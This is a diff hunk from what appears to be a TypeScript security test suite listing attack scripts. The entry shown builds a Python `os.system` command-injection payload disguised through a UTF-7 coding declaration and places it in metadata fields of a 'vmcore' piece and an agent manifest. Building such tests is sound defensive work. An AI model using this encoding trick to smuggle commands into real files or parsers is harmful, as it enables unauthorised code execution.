@@ -105,7 +105,7 @@ const scripts: Attack[] = [
       // UTF-7, in which the line end and the quotes are letters: what Python takes for a comment becomes code.
       const code = `import os;os.system("${command}")`
       const utf7 = `coding=utf_7 +AAo-${code.replaceAll('"', '+ACI-').replaceAll('=', '+AD0-')}`
-      return { pieces: [vmcore('6.12.0', { note: utf7 })], manifest: { agent: utf7 } }
+      return { pieces: [vmcore('6.12.0', { source: 'memory', scope: utf7 })], manifest: { agent: utf7 } }
     },
   },
   {
